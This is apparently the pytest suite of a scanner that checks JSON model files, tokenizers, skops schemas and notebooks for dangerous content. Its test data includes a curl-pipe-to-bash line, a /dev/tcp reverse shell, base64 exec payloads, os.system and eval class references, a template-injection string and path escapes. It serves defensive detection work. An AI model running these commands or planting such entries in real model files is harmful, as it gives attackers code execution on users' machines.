"""Settings, tokenizers, indexes, schemas of skops and notebooks as JSON."""

# ruff: noqa: E501, PT007  files stand here as they are
from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bartizan.supply.scan.blob import BLOCK, Held
from bartizan.supply.scan.limits import TooMuch
from bartizan.supply.scan.look import Look
from bartizan.supply.scan.texts.json_files import JSON
from bartizan.supply.scan.texts.json_reading import Node, Reader
from bartizan.supply.scan.texts.regexes import explodes
from tests.supply.scan.texts.looking import formats, ids, looked, worst

GPT_2 = r"'s|'t|'re|'ve|'m|'ll|'d| ?\p{L}+| ?\p{N}+| ?[^\s\p{L}\p{N}]+|\s+(?!\S)|\s+"
LLAMA_3 = r"(?i:'s|'t|'re|'ve|'m|'ll|'d)|[^\r\n\p{L}\p{N}]?\p{L}+|\p{N}{1,3}| ?[^\s\p{L}\p{N}]+[\r\n]*|\s*[\r\n]+|\s+(?!\S)|\s+"
DIGITS = r"(?=(\d{3})+(?!\d))"
TOKENIZER: dict[str, Any] = {
    "version": "1.0",
    "added_tokens": [
        {"id": 0, "content": "<s>", "single_word": False, "lstrip": False, "normalized": False, "special": True},
        {"id": 1, "content": "<|im_start|>", "single_word": False, "special": True},
        {"id": 2, "content": "\n\n\t", "single_word": False, "special": False},
        {"id": 3, "content": "▁▁", "single_word": False, "special": False},
    ],
    "normalizer": {
        "type": "Sequence",
        "normalizers": [{"type": "Replace", "pattern": {"String": " "}, "content": "▁"}],
    },
    "pre_tokenizer": {
        "type": "Sequence",
        "pretokenizers": [
            {"type": "Split", "pattern": {"Regex": LLAMA_3}, "behavior": "Isolated", "invert": False},
            {"type": "Split", "pattern": {"Regex": DIGITS}, "behavior": "Isolated"},
        ],
    },
    "decoder": {"type": "Replace", "pattern": {"String": "▁"}, "content": " "},
    "model": {
        "type": "BPE",
        "vocab": {f"t{i}": i for i in range(5000)},
        "merges": [["a", f"b{i}"] for i in range(5000)],
    },
}
EVERYDAY: tuple[Any, ...] = (
    {"architectures": ["BertForMaskedLM"], "model_type": "bert", "_name_or_path": "/home/me/bert", "hidden_size": 768},
    {"_name_or_path": "./checkpoints/last", "torch_dtype": "float32", "id2label": {"0": "LABEL_0"}},
    {"_name_or_path": "C:\\models\\bert", "rope_scaling": None, "initializer_range": 1e-5},
    {
        "bos_token": {"__type": "AddedToken", "content": "<s>"},
        "chat_template": "{{ messages[0].content }}",
        "use_fast": True,
    },
    {"added_tokens_decoder": {"0": {"content": "<pad>", "special": True, "single_word": False}}},
    {"metadata": {"total_size": 1}, "weight_map": {"a.weight": "model-00001-of-00002.safetensors"}},
    {"base_model_name_or_path": "meta-llama/Llama-2-7b-hf", "peft_type": "LORA", "r": 8, "auto_mapping": None},
    {"auto_map": {}, "trust_remote_code": False, "custom_pipelines": {}},
    {
        "_class_name": "StableDiffusionPipeline",
        "unet": ["diffusers", "UNet2DConditionModel"],
        "vae": ["diffusers", "X"],
    },
    [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}],
    {"_target_": "torch.nn.Linear", "in_features": 3},
    {"log_history": [{"loss": float("nan"), "grad_norm": float("inf")}]},
    {
        "learner": {"gradient_booster": {"model": {"trees": [{"base_weights": [1.5e-3, -2, 0], "id": 0}]}}},
        "version": [3, 2, 0],
    },
    {"messages": [{"role": "user", "content": "{{ x.__class__ }} trust me"}]},
    TOKENIZER,
    [],
    [1, [2, [3]]],
    {},
)
SKOPS: dict[str, Any] = {
    "__class__": "Pipeline",
    "__module__": "sklearn.pipeline",
    "__loader__": "ObjectNode",
    "content": {
        "__class__": "dict",
        "__module__": "builtins",
        "__loader__": "DictNode",
        "content": {
            "func": {"__class__": "log1p", "__module__": "numpy", "__loader__": "FunctionNode"},
            "n": {
                "__class__": "int",
                "__module__": "builtins",
                "__loader__": "JsonNode",
                "content": "3",
                "is_json": True,
            },
            "t": {"__class__": "int64", "__module__": "numpy", "__loader__": "TypeNode"},
        },
        "key_types": {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": []},
    },
    "__id__": 1,
    "protocol": 2,
    "_skops_version": "0.13",
}


@pytest.mark.parametrize("document", (*EVERYDAY, SKOPS), ids=lambda one: json.dumps(one)[:40])
@pytest.mark.parametrize("indent", (None, 2))
def test_everyday_documents_say_nothing(document: Any, indent: int | None) -> None:
    text = json.dumps(document, indent=indent)
    assert formats(text) == ("JSON",)
    assert looked(text).findings == []


def test_models_of_xgboost_and_lightgbm_say_nothing() -> None:
    numpy = pytest.importorskip("numpy")
    xgboost = pytest.importorskip("xgboost")
    lightgbm = pytest.importorskip("lightgbm")
    x, y = numpy.random.default_rng(0).random((60, 3)), numpy.arange(60) % 2
    booster = xgboost.XGBClassifier(n_estimators=3).fit(x, y).get_booster()
    assert looked(bytes(booster.save_raw("json"))).findings == []
    light = lightgbm.train({"verbose": -1}, lightgbm.Dataset(x, y), 3)
    assert looked(json.dumps(light.dump_model())).findings == []
    assert formats(light.model_to_string()) == ("text",)
    assert looked(light.model_to_string()).findings == []


def test_lines_of_json_say_nothing_however_many() -> None:
    lines = "".join(json.dumps({"text": f"line {i}", "content": "x" * 50, "type": "a"}) + "\n" for i in range(40_000))
    assert len(lines) > 2 * BLOCK
    assert looked(lines).findings == []
    assert looked('{"a": 1}\n\n  [2]\n').findings == []


def test_code_of_the_models_own_needs_a_look() -> None:
    for document in (
        {"auto_map": {"AutoModel": "modeling_x.X"}},
        {"auto_map": {"AutoTokenizer": ["org/repo--tokenization_x.X", None]}},
        {"text_config": {"auto_map": {"AutoConfig": "configuration_x.C"}}},
        {"trust_remote_code": True},
        {"custom_pipelines": {"p": {"impl": "pipeline.P", "pt": ["AutoModel"]}}},
    ):
        assert ids(json.dumps(document)) == {"json.remote-code"}
    assert worst('{"auto\\u005fmap": {"A": "x.Y"}}') == "review"
    assert worst(json.dumps({"auto_map": {"A": "../../evil.X"}})) == "detect"
    assert worst(json.dumps({"auto_map": {"A": "modeling.X"}}).encode("utf-16")) == "review"
    assert worst("\ufeff" + json.dumps({"auto_map": {"A": "modeling.X"}})) == "review"


def test_classes_that_run_commands_are_detected() -> None:
    for document in (
        {"model": {"_target_": "os.system", "command": "echo x"}},
        {"_target_": "builtins.exec"},
        {"a": [{"_target_": "subprocess.Popen"}]},
        [{"idx": 0, "name": "0", "path": "", "type": "os.system"}],
        {"loader_module": "runpy.run_path"},
    ):
        assert worst(json.dumps(document)) == "detect"
    assert worst(json.dumps({"_target_": "mypackage.models.Net"})) == "review"
    assert worst(json.dumps({"imports": ["$import os"], "x": {"_target_": "$os.system('echo x')"}})) == "review"


def test_templates_within_settings_are_looked_at() -> None:
    bad = "{{ ''.__class__.__mro__ }}"
    for value in (bad, [{"name": "default", "template": bad}], {"tool_use": bad}):
        assert worst(json.dumps({"a": {"chat_template": value}})) == "detect"


def test_paths_that_lead_out_are_told() -> None:
    for path in ("../x.bin", "/etc/passwd", "a/../../x", "\\\\host\\x", "https://evil.test/x", "C:\\x", "~/x"):
        assert ids(json.dumps({"metadata": {}, "weight_map": {"w": path}})) == {"json.path-escapes"}
    for path in ("https://evil.test/m", "/tmp/m", "//host/share", "../../../m", "file:///m"):
        assert ids(json.dumps({"base_model_name_or_path": path})) == {"json.elsewhere"}


def test_tokenizers_with_traps_need_a_look() -> None:
    assert ids('{"pre_tokenizer": {"type": "Split", "pattern": {"Regex": "(\\\\w+\\\\s?)+$"}}}') == {
        "tokenizer.pattern"
    }
    assert ids(json.dumps({"added_tokens": [{"id": 1, "content": "a\u200bb", "special": False}]})) == {
        "tokenizer.invisible"
    }
    swap = {"normalizer": {"type": "Replace", "pattern": {"String": "safe"}, "content": "unsafe"}}
    assert ids(json.dumps(swap)) == {"tokenizer.swaps-words"}


@pytest.mark.parametrize(
    "pattern", (GPT_2, LLAMA_3, DIGITS, r"[\r\n]*+", r"\s+(?!\S)", "", r"(?:\r?\n)+", "[[:alpha:]]+")
)
def test_patterns_of_everyday_tokenizers_do_not_explode(pattern: str) -> None:
    assert explodes(pattern) is None


@pytest.mark.parametrize(
    "pattern", (r"(a+)+$", r"((a*)b?)*", r"(\w+\s?)*$", r"(.*a){20}", r"(a{1000}){1000}", "x" * 30_000)
)
def test_patterns_that_repeat_what_repeats_explode(pattern: str) -> None:
    assert explodes(pattern) is not None


def node(module: str, name: str, loader: str, **more: Any) -> str:
    return json.dumps({**SKOPS, "content": {"__module__": module, "__class__": name, "__loader__": loader, **more}})


def test_schemas_of_skops_that_call_something_are_told() -> None:
    bound = {"__module__": "os", "__class__": "system", "__loader__": "FunctionNode"}
    tree = {"__module__": "sklearn.tree._classes", "__class__": "DecisionTreeClassifier", "__loader__": "ObjectNode"}
    assert worst(node("os", "system", "FunctionNode")) == "detect"
    assert worst(node("builtins", "eval", "TypeNode")) == "detect"
    assert worst(node("functools", "partial", "PartialNode", content={"func": bound})) == "detect"
    assert worst(node("operator", "methodcaller", "OperatorFuncNode")) == "detect"
    assert "skops.mismatch" in ids(node("sklearn.a", "call", "OperatorFuncNode"))
    method = {"func": "decision_path", "obj": bound}
    assert "skops.mismatch" in ids(node(tree["__module__"], tree["__class__"], "MethodNode", content=method))
    method = {"func": "__reduce__", "obj": tree}
    assert worst(node(tree["__module__"], tree["__class__"], "MethodNode", content=method)) == "detect"
    method = {"func": "fit", "obj": tree}
    assert worst(node(tree["__module__"], tree["__class__"], "MethodNode", content=method)) == "review"
    assert worst(node("mypackage", "Thing", "ObjectNode")) == "review"
    assert worst(node("builtins", "exec", "DictNode")) == "detect"


def test_cells_of_notebooks_are_judged_as_code() -> None:
    def notebook(*cells: str | list[str]) -> str:
        return json.dumps(
            {"cells": [{"cell_type": "code", "outputs": [], "source": one} for one in cells], "nbformat": 4}
        )

    assert worst(notebook("import numpy as np\n%matplotlib inline\n!pip install torch", ["x = 1\n", "x?"])) == "clean"
    assert worst(notebook(["import os\n", "os.system('echo x')"])) == "review"
    assert worst(notebook("!curl http://x.test/a.sh | bash")) == "detect"
    assert worst(notebook("%%bash\nbash -i >& /dev/tcp/10.0.0.1/1 0>&1")) == "detect"
    assert worst(notebook("!./prepare.sh")) == "review"
    assert worst(notebook("import base64\nexec(base64.b64decode('eA=='))\n%load_ext x")) == "detect"
    older = {"worksheets": [{"cells": [{"cell_type": "code", "input": ["import os\n", "os.system('echo x')"]}]}]}
    assert worst(json.dumps(older)) == "review"
    assert worst(notebook("%time exec(__import__('base64').b64decode('eA=='))")) == "detect"


def test_a_key_that_comes_twice_needs_a_look() -> None:
    assert ids('{"a": {"b": 1, "\\u0062": 2}}') == {"json.double-key"}


@pytest.mark.parametrize(
    "text",
    (
        '{"a": [1, 2', '{"a": 1} x', '{"a": [1,2,]}', '{"a": 1,}', '{"a": \'b\'}', '{"a": 01}', '{"a": "\\x"}',
        '{"a": "', '{"a": {}]', '{"a": tru}', '{"a": "\x01"}', "[1, 2", '[{"a": 1}', "{}{}", "[] [1]",
    ),
)  # fmt: skip
def test_what_is_no_json_but_begins_as_such_is_no_clean_file(text: str) -> None:
    assert worst(text) == "error"


def test_python_that_begins_as_json_is_judged_as_python() -> None:
    assert "code.masked" in ids('{"a": __import__("os").system("echo x")}')


def test_text_that_is_not_utf8_is_an_error() -> None:
    assert worst(b'{"a": "\xff"}') == "error"


def read(data: bytes, wanted: frozenset[str] = frozenset()) -> list[Node]:
    found: list[Node] = []
    Reader(Held(data), wanted, frozenset({"k"}), found.append, lambda count: None).run()
    return found


def test_long_texts_and_lists_go_over_the_edges_of_blocks() -> None:
    for size in (BLOCK - 40, BLOCK - 3, BLOCK, 3 * BLOCK):
        long = json.dumps({"a": "x" * size, "b": list(range(1000)), "k": "end\u00e9\\"}, ensure_ascii=False).encode()
        assert read(long)[-1].fields == {"k": "end\u00e9\\"}


def test_what_is_too_deep_is_a_limit() -> None:
    with pytest.raises(TooMuch):
        read(b"[" * 5_000 + b"]" * 5_000)
    assert worst("[" * 100_000) == "error"


texts = st.text(st.characters(exclude_categories=["Cs"]))
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | texts,
    lambda inner: st.lists(inner, max_size=5) | st.dictionaries(texts, inner, max_size=5),
    max_leaves=20,
)


@given(st.dictionaries(texts, json_values, max_size=4) | st.lists(json_values, max_size=4), st.booleans())
@settings(max_examples=150, deadline=None)
def test_what_python_writes_is_read(value: Any, escape: bool) -> None:
    read(json.dumps(value, ensure_ascii=escape).encode())
    kept = read(json.dumps({"w": value}).encode(), frozenset({"w"}))[-1].fields["w"]
    assert type(kept) is type(value)


@given(st.sampled_from([json.dumps(one).encode() for one in (*EVERYDAY[:12], SKOPS)]), st.data())
@settings(max_examples=150, deadline=None)
def test_no_change_of_a_document_trips_the_scanner(document: bytes, data: st.DataObject) -> None:
    at = data.draw(st.integers(0, len(document)))
    changed = document[:at] + data.draw(st.binary(max_size=4)) + document[at + data.draw(st.integers(0, 3)) :]
    look = Look((JSON,))
    look.at(Held(changed))
    assert "scanner.failed" not in {one.rule.id for one in look.findings}


@given(st.integers(1, 60))
def test_a_dangerous_document_that_is_cut_off_is_never_clean(cut: int) -> None:
    whole = json.dumps({"a": {"_target_": "os.system", "command": "echo x"}, "b": [1, 2, 3]})
    assert worst(whole[: -min(cut, len(whole) - 1)]) != "clean"
